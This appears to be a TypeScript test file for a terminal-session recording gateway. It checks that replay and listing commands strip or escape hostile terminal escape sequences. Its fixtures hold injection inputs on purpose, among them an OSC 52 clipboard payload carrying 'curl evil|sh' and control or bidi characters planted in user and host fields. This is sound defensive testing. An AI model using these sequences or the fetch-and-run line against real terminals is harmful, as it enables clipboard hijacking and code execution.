/**
 * A recorded person cannot act on the auditor's terminal: `recordings play`
 * filters what the recording wrote (the clipboard, titles, queries are
 * dropped; text and colours pass) and restores the terminal however it stops,
 * `--raw` gives the bytes as recorded, and every other command prints what
 * came from a recording or the store with its control characters escaped.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { outputProblems } from '../../src/terminal/output-check.js';
import { CLI, GatewayHome, PASSPHRASE } from '../fixtures/gateway-env.js';
import type { Step } from '../fixtures/record-session.js';

const CLIPBOARD = Buffer.from('CLIPBOARD-PAYLOAD-curl evil|sh').toString('base64');
const EIGHT_BIT_CLIPBOARD = Buffer.from('EIGHT-BIT-PAYLOAD').toString('base64');
const bin = (b: Buffer): Step => ({ op: 'output', base64: b.toString('base64') });

const steps: Step[] = [
  { op: 'terminal', cols: 80, rows: 24, term: 'xterm-256color' },
  { op: 'output', text: 'login ok\r\n' },
  { op: 'output', text: '\x1b[1;31mRED-TEXT\x1b[0m \x1b[38;5;33mBLUE-TEXT\x1b[m\r\n' },
  // OSC 52 split across two frames.
  { op: 'output', text: `\x1b]52;c;${CLIPBOARD.slice(0, 7)}` },
  { op: 'output', text: `${CLIPBOARD.slice(7)}\x07` },
  { op: 'output', text: '\x1b]0;TITLE-ZERO\x07\x1b]2;TITLE-TWO\x1b\\' },
  { op: 'output', text: '\x1bP$qm\x1b\\\x1bP+q544e\x1b\\' },
  { op: 'output', text: '\x1b[6n\x1b[5n\x1b[c\x1b[>c\x1b[?1000h' },
  // OSC 52 opened by the C1 control U+009D, and a raw 0x9B byte (invalid UTF-8) before text.
  { op: 'output', text: `\u009d52;c;${EIGHT_BIT_CLIPBOARD}\x07` },
  bin(Buffer.from('\x9bRAW-BYTE-TEXT\r\n', 'latin1')),
  { op: 'output', text: 'héllo ✓\r\n\x1b[?1049h\x1b[?25lFULL-SCREEN\r\n' },
  { op: 'event', event: { type: 'command', command: 'echo \x1b]52;c;SEARCH-HIT\x07 \u202edone' } },
];
const recorded = Buffer.concat(
  steps.flatMap((s) => (s.op === 'output' ? [s.base64 !== undefined ? Buffer.from(s.base64, 'base64') : Buffer.from(s.text!, 'utf8')] : [])),
);
const who = { user: 'mallory\x1b[2J', target: 'web\u202e01', protocol: 'ssh', clientAddress: '127.0.0.1' };

let home: GatewayHome;
let id: string;
let slow: string;
const copies: string[] = [];

before(async () => {
  home = await GatewayHome.create();
  id = await home.record({ who, steps });
  slow = await home.record({
    steps: [
      { op: 'terminal', cols: 80, rows: 24 },
      { op: 'output', text: '\x1b[?1049h\x1b[?25l\x1b[?2004h\x1b[7mSTARTED\r\n' },
      { op: 'sleep', ms: 300 },
      { op: 'output', text: 'NEVER-SHOWN\r\n' },
    ],
  });
});
after(async () => {
  await home.remove();
  await Promise.all(copies.map((d) => rm(d, { recursive: true, force: true })));
});

/** No raw control character (tab and line feed apart), C1 control or bidi override. */
function assertPrintable(text: string, what: string): void {
  assert.doesNotMatch(text, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/, what);
}

test('recordings play drops the clipboard, titles, control strings and queries, and keeps text and colours', async () => {
  const r = await home.cli(['recordings', 'play', id, '--key', home.key('officer'), '--speed', '100']);
  assert.equal(r.code, 0, r.stderr);
  const out = r.stdoutBytes.toString('latin1');
  for (const kept of ['login ok', 'RAW-BYTE-TEXT', 'RED-TEXT', 'BLUE-TEXT', '\x1b[1;31m', '\x1b[0m', '\x1b[38;5;33m', '\x1b[m', 'FULL-SCREEN']) {
    assert.ok(out.includes(kept), `${JSON.stringify(kept)} in the output`);
  }
  assert.ok(r.stdout.includes('héllo ✓'), 'UTF-8 text intact');
  for (const dropped of [CLIPBOARD, CLIPBOARD.slice(7), EIGHT_BIT_CLIPBOARD, 'TITLE-ZERO', 'TITLE-TWO', '\x1b]', '\x1bP', '544e', '\x1b[6n', '\x1b[5n', '\x1b[c', '\x1b[>c', '\x1b[?1000h', '\x9d', '\x9b']) {
    assert.ok(!out.includes(dropped), `${JSON.stringify(dropped)} must not reach the terminal`);
  }
  assert.deepEqual(outputProblems(r.stdoutBytes), []);
  // The recording left the alternate screen on and the cursor hidden: play puts them back.
  assert.ok(out.endsWith('FULL-SCREEN\r\n\x1b[?1049l\x1b[?25h'), JSON.stringify(out.slice(-40)));
});

test('recordings play --raw writes exactly the recorded bytes', async () => {
  const r = await home.cli(['recordings', 'play', id, '--key', home.key('officer'), '--speed', '100', '--raw']);
  assert.equal(r.code, 0, r.stderr);
  assert.ok(r.stdoutBytes.equals(recorded), `raw play gave ${r.stdoutBytes.length} bytes, recorded ${recorded.length}`);
});

test('Ctrl-C during play stops it and restores the terminal', async () => {
  const child = spawn(process.execPath, [CLI, 'recordings', 'play', slow, '--key', home.key('officer'), '--speed', '0.01', '--config', home.configPath], {
    env: { ...process.env, RECGATE_PASSPHRASE: PASSPHRASE },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let out = '';
  let err = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString('latin1')));
  child.stderr.on('data', (d: Buffer) => (err += d.toString('utf8')));
  const closed = new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
  const deadline = Date.now() + 30_000;
  while (!out.includes('STARTED') && Date.now() < deadline && child.exitCode === null) await new Promise((r) => setTimeout(r, 20));
  assert.ok(out.includes('STARTED'), `play started: ${err}`);
  const sent = Date.now();
  child.kill('SIGINT');
  const code = await closed;
  assert.equal(code, 130, err);
  assert.ok(Date.now() - sent < 10_000, 'stopped at once, not after the recorded pause');
  assert.equal(err, '');
  assert.ok(!out.includes('NEVER-SHOWN'));
  assert.ok(out.endsWith('STARTED\r\n\x1b[?1049l\x1b[?25h\x1b[?2004l\x1b[0m'), JSON.stringify(out.slice(-60)));
});

test('recordings search shows a hit from text with control characters escaped', async () => {
  const r = await home.cli(['recordings', 'search', 'SEARCH-HIT', '--key', home.key('officer')]);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trimEnd().split('\n');
  assert.equal(lines.length, 1, r.stdout);
  assert.ok(lines[0]!.includes('event:command  command=echo \\x1B]52;c;SEARCH-HIT\\x07 \\u202Edone'), lines[0]);
  assertPrintable(r.stdout, 'search output');
});

test('recordings list escapes the index fields; --json stays JSON with nothing raw', async () => {
  const table = await home.cli(['recordings', 'list']);
  assert.equal(table.code, 0, table.stderr);
  assertPrintable(table.stdout, 'list output');
  assert.match(table.stdout, new RegExp(`${id}\\s+mallory\\\\x1B\\[2J\\s+web\\\\u202E01\\s+ssh`));
  const json = await home.cli(['recordings', 'list', '--json']);
  assert.equal(json.code, 0, json.stderr);
  assertPrintable(json.stdout, 'list --json output');
  const rows = JSON.parse(json.stdout) as { id: string; user: string; target: string }[];
  const row = rows.find((x) => x.id === id)!;
  assert.equal(row.user, who.user);
  assert.equal(row.target, who.target);
  assert.ok(json.stdout.includes('"web\\u202e01"'));
});

test('recordings verify prints a finding quoting the store with its control characters escaped', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'recgate-term-'));
  copies.push(dir);
  await cp(home.dir, dir, { recursive: true });
  const { default: Database } = await import('libsql');
  const db = new Database(join(dir, 'data', 'index.db'));
  db.prepare('UPDATE recordings SET user = ? WHERE id = ?').run('eve\u202e\u009b2J', slow);
  db.close();
  const r = await home.cli(['recordings', 'verify', slow, '--config', join(dir, 'recgate.yaml')]);
  assert.notEqual(r.code, 0);
  assertPrintable(r.stdout, 'verify output');
  assert.ok(r.stdout.includes('the index says user "eve\\u202E\\u009B2J"'), r.stdout);
});

test('an error line quoting untrusted text is escaped', async () => {
  const r = await home.cli(['recordings', 'verify', 'x\u202ey\u009b31m']);
  assert.notEqual(r.code, 0);
  assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
  assertPrintable(r.stderr.trimEnd(), 'error line');
  assert.ok(r.stderr.includes('x\\u202Ey\\u009B31m'), r.stderr);
});
